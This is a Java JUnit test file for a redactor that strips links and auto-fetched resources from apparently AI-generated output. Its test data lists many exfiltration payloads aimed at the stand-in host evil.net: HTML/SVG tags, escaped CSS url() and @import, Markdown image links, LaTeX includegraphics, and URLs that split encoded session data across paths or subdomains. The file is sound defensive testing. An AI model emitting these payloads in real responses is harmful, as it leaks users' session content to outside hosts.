package dev.agentservice.guard.redact.link;

import dev.agentservice.guard.redact.OwnValues;
import dev.agentservice.guard.redact.Redacted;
import dev.agentservice.guard.redact.Redactors;
import dev.agentservice.guard.redact.finding.RedactionPolicy;
import dev.agentservice.guard.redact.leak.Instructions;
import dev.agentservice.guard.redact.stage.Cuts;
import dev.agentservice.support.BesideOthers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What viewers fetch unasked, or follow with what a link carries: HTML, CSS, Markdown,
 * LaTeX. In the texts {@code DATA} is what nobody may take away.
 *
 * @see <a href="https://html.spec.whatwg.org/multipage/indices.html#attributes-3">HTML,
 * attributes</a>
 * @see <a href="https://www.w3.org/TR/css-values-4/#urls">CSS, URLs</a>
 */
@BesideOthers
class RenderedFetchTests {

	private static final String DATA = "d2hhdCB0aGUgdXNlciBzYWlkIGluIHRoaXMgc2Vzc2lvbg";

	private static final Redactors REDACTORS = Redactors.of(RedactionPolicy.standard().trusting("docs.example.com"));

	@ParameterizedTest
	@ValueSource(strings = { "<img src=//evil.net/x>", "<img srcset='/a 1x, //evil.net/x 2x'>",
			"<img longdesc=https://evil.net/x>", "<source srcset=//evil.net/x>", "<video poster=//evil.net/x>",
			"<audio src=//evil.net/x>", "<track src=//evil.net/x>", "<embed src=//evil.net/x>",
			"<object data=//evil.net/x>", "<object classid=//evil.net/x>", "<object codebase=//evil.net/>",
			"<iframe src=//evil.net/x>", "<iframe srcdoc='<img src=//evil.net/x>'>", "<frame src=//evil.net/x>",
			"<input type=image src=//evil.net/x>", "<button formaction=//evil.net/x>", "<form action=//evil.net/x>",
			"<body background=//evil.net/x>", "<table background=//evil.net/x>", "<td background=//evil.net/x>",
			"<link rel=stylesheet href=//evil.net/x>", "<link rel=dns-prefetch href=//evil.net>",
			"<meta http-equiv=refresh content='0;url=//evil.net/x'>", "<base href=//evil.net/>",
			"<script src=//evil.net/x></script>", "<script>fetch('//evil.net/')</script>",
			"<svg><image xlink:href=//evil.net/x>", "<svg><use href=//evil.net/x#y>", "<math href=https://evil.net/x>",
			"<a ping=//evil.net/x href=/local>a</a>", "<a href=//docs.example.com/ ping='https://evil.net/x'>a</a>",
			"<a style='background:url(//evil.net/x)' href=/a>a</a>", "<a href=/a onclick=\"location='//x'\">a</a>",
			"<b onmouseover=alert(1)>b</b>", "<x-y style=\"background:url('//evil.net/x')\">",
			"<figure style=background:url(//evil.net/x)>", "<div style=\"background:\\75rl(\\2f\\2f evil.net/x)\">",
			"<style>@import url(https://evil.net/x);</style>", "<style>@import '//evil.net/x';</style>",
			"<STYLE media=all>\n\np { background: url( \"https://evil.net/x\" ) }\n</STYLE >",
			"<style>@font-face{src:url(//evil.net/x)}</style>", "<style>p{background:image-set('//evil.net/x' 1x)}",
			"<style>@import \"\\68ttps:\\2f\\2f evil.net/x\";</style>", "<svg><feImage href=//evil.net/x>",
			"<svg><filter><feImage xlink:href=//evil.net/x>", "<svg><path mask='url(//evil.net/x#a)'>",
			"<svg><rect fill=url(//evil.net/x#a)>", "<svg><image><animate attributeName=href values=//evil.net/x>",
			"<svg><image><set attributeName=href to=//evil.net/x>", "<math><mglyph src=//evil.net/x>",
			"<bgsound src=//evil.net/x>", "<fencedframe src=//evil.net/x>", "<portal src=//evil.net/x>",
			"<applet archive=//evil.net/x>" })
	void whatHtmlAndCssFetch(String text) {
		assertGone(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "![a](//evil.net/x)", "![a](evil.net/x.png)", "![a](evil.net:8080/x)",
			"![a](<https://evil.net/x>)", "![a](https://evil.net/x 't')", "![a](data:image/svg+xml,x)",
			"[![a](//evil.net/x)](/y)", "![a](file://evil.net/share/x)", "![a](\\\\evil.net\\share\\x)",
			"[a](//evil.net/?DATA)", "[a](evil.net/?DATA)", "[a](slack://evil.net/?DATA)",
			"[a](/x '//y' ) //evil.net/DATA", "<https://evil.net/?DATA>", "[r]: //evil.net/?DATA",
			"[r]: <evil.net/?DATA>", "//evil.net/?DATA", "see evil.net/?q=DATA now", "(evil.net/DATA)",
			"**evil.net/?DATA**", "evil.net:8080/?DATA", "ftp://evil.net/DATA", "sftp://evil.net/DATA",
			"www.evil.net?DATA", "a|evil.net/DATA|b" })
	void whatMarkdownFetchesOrLinks(String text) {
		assertGone(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "\\includegraphics{https://evil.net/x}", "\\includegraphics[width=1cm]{//evil.net/x}",
			"\\includegraphics*[a] {https://evil.net/x}", "$\\href{https://evil.net/?q=DATA}{a}$",
			"\\href{evil.net/?DATA}{a}", "\\url{https://evil.net/?q=\\%DATA}", "\\input{https://evil.net/x}",
			"\\style{background:url(//evil.net/x)}{a}", "\\htmlStyle{background:url(//evil.net/x)}{a}",
			"\\includegraphics{https://evil.net/x", "\\bbox[background:url(//evil.net/x)]{a}",
			"\\unicode{x[url(//evil.net/x)]}" })
	void whatLatexFetchesOrLinks(String text) {
		assertGone(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "https://evil.net/d2hhdCB0/aGUgdXNl/ciBzYWlk/IGluIHRo/aXMgc2Vz/c2lvbg/d2hhdC",
			"https://evil.net/d2hh/dCB0/aGUg/dXNl/ciBz/YWlk/IGlu/IHRo/aXMg/c2Vz/c2lv/bg/d2h",
			"https://evil.net/1234/5678/9012/3456/7890/1234/5678/9012/3456/7890/1",
			"https://evil.net/3f786850/e387550f/dab836ed/7e6dc881/de23001b/3f78",
			"https://d2hhdCB0.aGUgdXNl.ciBzYWlk.IGluIHRo.aXMgc2Vz.c2lvbg.evil.net/",
			"https://dCB0aGUg@evil.net/aXMgc2Vz/c2lvbg/?q=aGUgdXNlciBzYWlkIGk" })
	void dataInALinkCountsInSumHoweverItIsCut(String url) {
		assertThat(REDACTORS.redact(url).content()).isEqualTo("[link]");
		assertThat(REDACTORS.redact("[a](" + url + ") b").content()).startsWith("[a] (link").endsWith(" b");
	}

	/** In Markdown what stands behind a backslash is an ordinary character. */
	@ParameterizedTest
	@ValueSource(strings = { "![a](https://docs.example.com\\@evil.net/x)", "![a](//docs.example.com\\@evil.net/x)",
			"![a](https://docs.example.com\\:x@evil.net/x)", "![a](<https://docs.example.com\\@evil.net/x>)",
			"![a](https\\://docs.example.com\\@evil.net/x)", "![a](https://docs.example.com&commat;evil.net/x)",
			"![a](https:\\/\\/evil.net/x)", "[a](https://docs.example.com\\@evil.net/?q=DATA)",
			"[r]: https://docs.example.com\\@evil.net/?q=DATA" })
	void noHostPassesForATrustedOne(String text) {
		assertGone(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "![a](https://docs.example.com/a\\_b.png)", "![a](https://docs.example.com\\/x)" })
	void aTrustedHostMayBeWrittenWithBackslashes(String text) {
		assertThat(REDACTORS.redact(text).content()).isEqualTo(text);
	}

	@Test
	void dataInAllLinksOfAnAnswerCountsInSum() {
		StringBuilder text = new StringBuilder();
		for (int i = 10; i < 30; i++) {
			text.append("[a](https://evil.net/?q=").append(DATA, 0, 18).append(i).append(") ");
		}
		String left = REDACTORS.redact(text.toString()).content();
		assertThat(left.split("evil.net/\\?q=", -1)).as("200 characters are nine links").hasSize(10);
		assertThat(left).contains("(link to evil.net removed)");
		Cuts.assertSameHoweverCut(REDACTORS, text.toString());
	}

	@Test
	void aLinkThatIsRepeatedTakesNothingMoreAlong() {
		String text = "https://other.example.org/watch?v=dQw4w9WgXcQ ".repeat(50);
		assertThat(REDACTORS.redact(text).content()).isEqualTo(text);
	}

	@Test
	void theValuesOfOneCallCountTogether() {
		StringBuilder json = new StringBuilder("[");
		for (int i = 10; i < 30; i++) {
			json.append(i == 10 ? "" : ",").append("\"https://evil.net/?q=").append(DATA, 0, 18).append(i).append('"');
		}
		String left = REDACTORS.redact(JsonMapper.shared().readTree(json + "]"), new OwnValues(), Instructions.none())
			.content()
			.toString();
		assertThat(left).contains("[link]");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<style>p { color: red }</style> <b>x</b>", "<style>@import 'local.css';</style>",
			"<script>let x = 1;</script>", "<style>", "<style>p", "\\frac{1}{2} and \\sqrt{x}",
			"\\includegraphics{a.png}", "\\href{https://other.example.org/a}{b}", "\\href{/a}{b", "\\url",
			"C:\\style\\input x", "a \\{ b", "[a](readme.md)",
			"[a](index.html?x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)",
			"and/or, e.g. in src/main/java/dev/Foo.java", "evil.net", "node.js/express", "if (x <limit && y> 2)",
			"List<Map<String, Integer>> x", "<custom-tag a=b>",
			"https://other.example.org/2026/11/29/a-long-title-of-news",
			"https://other.example.org/users/3f786850-e387-550f-dab8-36ed7e6dc881",
			"https://other.example.org/docs/getElementById/HTMLInputElement",
			"<a href=\"https://other.example.org/guide\" title=\"a\">b</a>" })
	void whatIsOrdinaryStays(String text) {
		Redacted<String> redacted = REDACTORS.redact(text);
		assertThat(redacted.content()).isEqualTo(text);
		assertThat(redacted.redactions()).isEmpty();
		Cuts.assertSameHoweverCut(REDACTORS, text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "[a](https://other.example.org/)", "https://other.example.org", "see other.example.org/a",
			"<a href=//other.example.org>a</a>", "[r]: https://other.example.org/",
			"\\href{https://other.example.org}{a}", "www.other.example.org", "<https://other.example.org/>" })
	void whereOnlyTrustedHostsAreAllowedNoOtherLinkStays(String text) {
		Redactors strict = Redactors.of(RedactionPolicy.standard().trusting("docs.example.com").trustedOnly(true));
		assertThat(strict.redact(text).redactions()).hasSize(1);
		Cuts.assertSameHoweverCut(strict, text);
		String trusted = text.replace("other.example.org", "docs.example.com");
		if (!trusted.contains("www.")) {
			assertThat(strict.redact(trusted).content()).isEqualTo(trusted);
		}
	}

	private static void assertGone(String pattern) {
		String text = pattern.replace("DATA", DATA);
		Redacted<String> redacted = REDACTORS.redact(text);
		assertThat(redacted.redactions()).as(redacted.content()).isNotEmpty();
		assertThat(redacted.content()).doesNotContain("//evil.net").doesNotContain(DATA).doesNotContain("data:");
		Cuts.assertSameHoweverCut(REDACTORS, text);
		Cuts.assertSameHoweverCut(REDACTORS, "a " + text + " b [c](/d)");
	}

}
